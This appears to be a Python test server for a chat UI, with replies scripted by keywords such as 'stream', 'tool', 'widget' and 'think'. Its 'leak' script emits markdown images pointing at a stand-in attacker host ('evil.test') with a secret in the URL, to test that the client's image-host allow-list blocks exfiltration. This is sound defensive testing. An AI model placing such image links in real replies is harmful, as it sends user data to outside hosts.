"""A ChatKitServer whose replies are scripted by the user's message, for browser tests
and the render benchmark. The first word of the message picks the script:

``stream <n>``  n words streamed as text deltas; ``slow``  a long, slow stream (for Stop);
``fail``  an error event with Retry; ``tool``  a client tool call, then a reply with its
output; ``effect``  a client effect; ``widget``  a card with a server action button;
``notice``  a warning notice; ``title <t>``  renames the thread; ``math``  TeX;
``cite``  a cited answer with a deeplink; ``lock`` / ``close``  change the thread status;
``ask``  a structured-input question; ``think``  a reasoning workflow with progress;
``image``  a generated image with partial previews; ``dates``  date pickers placed
above and to the right, one with a time; ``leak``  limits the thread's image
hosts, then sends images from an allowed and a disallowed host in a notice, a thought
and a task; anything else echoes.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from datetime import datetime
from typing import Any

from chatloom.actions import ActionConfig
from chatloom.errors import CustomStreamError
from chatloom.server import ChatKitServer
from chatloom.store import Store
from chatloom.types import (
    Annotation,
    AssistantMessageContent,
    AssistantMessageContentPartAdded,
    AssistantMessageContentPartDone,
    AssistantMessageContentPartTextDelta,
    AssistantMessageItem,
    ClientEffectEvent,
    ClientToolCallItem,
    ClosedStatus,
    CustomTask,
    DurationSummary,
    GeneratedImage,
    GeneratedImageItem,
    GeneratedImageUpdated,
    LockedStatus,
    NoticeEvent,
    ProgressUpdateEvent,
    StructuredInputItem,
    StructuredInputMultipleChoice,
    StructuredInputMultipleChoiceOption,
    TaskItem,
    ThoughtTask,
    ThreadItemAddedEvent,
    ThreadItemDoneEvent,
    ThreadItemUpdatedEvent,
    ThreadMetadata,
    ThreadStreamEvent,
    URLSource,
    UserMessageItem,
    WidgetItem,
    Workflow,
    WorkflowItem,
    WorkflowTaskAdded,
    WorkflowTaskUpdated,
)
from chatloom.widgets import Button, Card, DatePicker, Text


def user_text(item: UserMessageItem | None) -> str:
    if item is None:
        return ""
    return "".join(getattr(part, "text", "") for part in item.content)


class ScriptedServer(ChatKitServer[Any]):
    def __init__(self, store: Store[Any], *, token_delay: float = 0.0) -> None:
        super().__init__(store)
        self.token_delay = token_delay
        self.feedback: list[tuple[list[str], str]] = []
        self.actions: list[dict[str, Any]] = []
        self.fail_next = 0
        self.inputs: list[UserMessageItem] = []

    def _id(self, thread: ThreadMetadata, context: Any) -> str:
        return self.store.generate_item_id("message", thread, context)

    async def stream_text(
        self, thread: ThreadMetadata, context: Any, words: list[str], delay: float = 0.0
    ) -> AsyncIterator[ThreadStreamEvent]:
        item = AssistantMessageItem(
            id=self._id(thread, context), thread_id=thread.id, created_at=datetime.now(), content=[]
        )
        yield ThreadItemAddedEvent(item=item)
        yield ThreadItemUpdatedEvent(
            item_id=item.id,
            update=AssistantMessageContentPartAdded(
                content_index=0, content=AssistantMessageContent(text="")
            ),
        )
        text = ""
        for word in words:
            text += word
            yield ThreadItemUpdatedEvent(
                item_id=item.id,
                update=AssistantMessageContentPartTextDelta(content_index=0, delta=word),
            )
            if delay:
                await asyncio.sleep(delay)
        content = AssistantMessageContent(text=text)
        yield ThreadItemUpdatedEvent(
            item_id=item.id,
            update=AssistantMessageContentPartDone(content_index=0, content=content),
        )
        yield ThreadItemDoneEvent(item=item.model_copy(update={"content": [content]}))

    async def respond(
        self, thread: ThreadMetadata, input_user_message: UserMessageItem | None, context: Any
    ) -> AsyncIterator[ThreadStreamEvent]:
        if input_user_message is None:
            # After a client tool or an answered question: report what came back.
            items = await self.store.load_thread_items(thread.id, None, 5, "desc", context)
            latest = next(
                (i for i in items.data if isinstance(i, ClientToolCallItem | StructuredInputItem)),
                None,
            )
            if isinstance(latest, StructuredInputItem):
                answer = latest.inputs[0].answer
                reply = f"Answered: {answer.values if answer else None} ({latest.status})"
            else:
                reply = f"Tool output: {latest.output if latest else None}"
            async for event in self.stream_text(thread, context, [reply]):
                yield event
            return
        self.inputs.append(input_user_message)
        text = user_text(input_user_message).strip()
        command, _, rest = text.partition(" ")
        command = command.lower()
        if command == "stream":
            count = int(rest or "20")
            words = [f"word{i} " for i in range(count)]
            async for event in self.stream_text(thread, context, words, self.token_delay):
                yield event
        elif command == "slow":
            async for event in self.stream_text(
                thread, context, [f"slow{i} " for i in range(400)], 0.05
            ):
                yield event
        elif command == "fail":
            if self.fail_next > 0:
                self.fail_next -= 1
                raise CustomStreamError("The scripted model failed.", allow_retry=True)
            async for event in self.stream_text(
                thread, context, ["Recovered ", "after ", "retry."]
            ):
                yield event
        elif command == "tool":
            yield ThreadItemDoneEvent(
                item=ClientToolCallItem(
                    id=self._id(thread, context),
                    thread_id=thread.id,
                    created_at=datetime.now(),
                    call_id="call_1",
                    name="get_selection",
                    arguments={"scope": rest or "all"},
                )
            )
        elif command == "effect":
            yield ClientEffectEvent(name="highlight", data={"color": rest or "red"})
            async for event in self.stream_text(thread, context, ["Effect ", "sent."]):
                yield event
        elif command == "widget":
            card = Card(
                children=[
                    Text(id="greeting", value="A widget card"),
                    Button(
                        label="Approve",
                        onClickAction=ActionConfig(type="approve", payload={"id": 7}),
                    ),
                ]
            )
            yield ThreadItemDoneEvent(
                item=WidgetItem(
                    id=self._id(thread, context),
                    thread_id=thread.id,
                    created_at=datetime.now(),
                    widget=card,
                    copy_text="A widget card",
                )
            )
        elif command == "dates":
            day = datetime(2025, 6, 12)
            pickers = Card(
                children=[
                    DatePicker(name="day", defaultValue=day, side="top", align="end"),
                    DatePicker(
                        name="meeting",
                        defaultValue=day.replace(hour=14, minute=30),
                        min=datetime(2025, 6, 10),
                        side="right",
                        align="center",
                    ),
                ]
            )
            yield ThreadItemDoneEvent(
                item=WidgetItem(
                    id=self._id(thread, context),
                    thread_id=thread.id,
                    created_at=datetime.now(),
                    widget=pickers,
                )
            )
        elif command == "math":
            async for event in self.stream_text(
                thread, context, ["Euler: $e^{i\\pi}+1=0$\n\n", "$$\\int_0^1 x\\,dx$$"]
            ):
                yield event
        elif command == "cite":
            text = "Paris is the capital. See [the map](chatkit-link://map?city=paris)."
            source = URLSource(title="Encyclopedia", url="https://example.com/paris")
            item = AssistantMessageItem(
                id=self._id(thread, context),
                thread_id=thread.id,
                created_at=datetime.now(),
                content=[
                    AssistantMessageContent(
                        text=text, annotations=[Annotation(source=source, index=21)]
                    )
                ],
            )
            yield ThreadItemDoneEvent(item=item)
        elif command in ("lock", "close"):
            reason = rest or None
            thread.status = (
                LockedStatus(reason=reason) if command == "lock" else ClosedStatus(reason=reason)
            )
            async for event in self.stream_text(thread, context, ["Status changed."]):
                yield event
        elif command == "ask":
            question = StructuredInputMultipleChoice(
                id="q1",
                question="Which color?",
                options=[StructuredInputMultipleChoiceOption(value=v) for v in ("red", "blue")],
            )
            yield ThreadItemDoneEvent(
                item=StructuredInputItem(
                    id=self._id(thread, context),
                    thread_id=thread.id,
                    created_at=datetime.now(),
                    inputs=[question],
                )
            )
        elif command == "think":
            yield ProgressUpdateEvent(text="Looking things up", icon="search")
            await asyncio.sleep(0.3)
            flow = WorkflowItem(
                id=self._id(thread, context),
                thread_id=thread.id,
                created_at=datetime.now(),
                workflow=Workflow(type="reasoning", tasks=[]),
            )
            yield ThreadItemAddedEvent(item=flow)
            step = CustomTask(title="Reading sources", status_indicator="loading")
            yield ThreadItemUpdatedEvent(
                item_id=flow.id, update=WorkflowTaskAdded(task_index=0, task=step)
            )
            await asyncio.sleep(0.4)
            done = step.model_copy(update={"status_indicator": "complete"})
            thought = ThoughtTask(title="Weighing it", content="Both are *plausible*.")
            yield ThreadItemUpdatedEvent(
                item_id=flow.id, update=WorkflowTaskUpdated(task_index=0, task=done)
            )
            yield ThreadItemUpdatedEvent(
                item_id=flow.id, update=WorkflowTaskAdded(task_index=1, task=thought)
            )
            final = Workflow(
                type="reasoning", tasks=[done, thought], summary=DurationSummary(duration=3)
            )
            yield ThreadItemDoneEvent(item=flow.model_copy(update={"workflow": final}))
            async for event in self.stream_text(thread, context, ["Thought ", "it ", "through."]):
                yield event
        elif command == "image":
            picture = GeneratedImageItem(
                id=self._id(thread, context), thread_id=thread.id, created_at=datetime.now()
            )
            yield ThreadItemAddedEvent(item=picture)
            pixel = "data:image/svg+xml;base64,"  # an image URL the element may show
            svg = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHdpZHRoPSI2NCIgaGVpZ2h0PSI2NCIvPg=="
            image = GeneratedImage(id="img_1", url=pixel + svg)
            for progress in (0.3, 0.7):
                yield ThreadItemUpdatedEvent(
                    item_id=picture.id, update=GeneratedImageUpdated(image=image, progress=progress)
                )
                await asyncio.sleep(0.3)
            yield ThreadItemDoneEvent(item=picture.model_copy(update={"image": image}))
        elif command == "leak":
            thread.allowed_image_domains = ["img.allowed.test"]
            yield ProgressUpdateEvent(text="Looking at pictures")  # the policy goes out first

            def pictures(where: str) -> str:
                return (
                    f"![ok](https://img.allowed.test/{where}.png) "
                    f"![leak](https://evil.test/{where}.png?secret=42)"
                )

            yield NoticeEvent(level="info", message=pictures("notice"))
            thought = ThoughtTask(title="Thinking", content=pictures("thought"))
            yield ThreadItemDoneEvent(
                item=WorkflowItem(
                    id=self._id(thread, context),
                    thread_id=thread.id,
                    created_at=datetime.now(),
                    workflow=Workflow(type="reasoning", tasks=[thought], expanded=True),
                )
            )
            yield ThreadItemDoneEvent(
                item=TaskItem(
                    id=self._id(thread, context),
                    thread_id=thread.id,
                    created_at=datetime.now(),
                    task=CustomTask(title="Step", content=pictures("task")),
                )
            )
            async for event in self.stream_text(thread, context, ["Pictures ", "shown."]):
                yield event
        elif command == "notice":
            yield NoticeEvent(level="warning", message="Mind the **gap**.", title="Heads up")
        elif command == "title":
            thread.title = rest or "Renamed by the server"
            async for event in self.stream_text(thread, context, ["Title ", "set."]):
                yield event
        else:
            async for event in self.stream_text(
                thread, context, ["You ", "said: ", text], self.token_delay
            ):
                yield event

    async def action(
        self, thread: ThreadMetadata, action: Any, sender: WidgetItem | None, context: Any
    ) -> AsyncIterator[ThreadStreamEvent]:
        self.actions.append({"type": action.type, "payload": action.payload})
        async for event in self.stream_text(thread, context, [f"Action {action.type} handled."]):
            yield event

    async def add_feedback(
        self, thread_id: str, item_ids: list[str], feedback: Any, context: Any
    ) -> None:
        self.feedback.append((item_ids, str(feedback)))
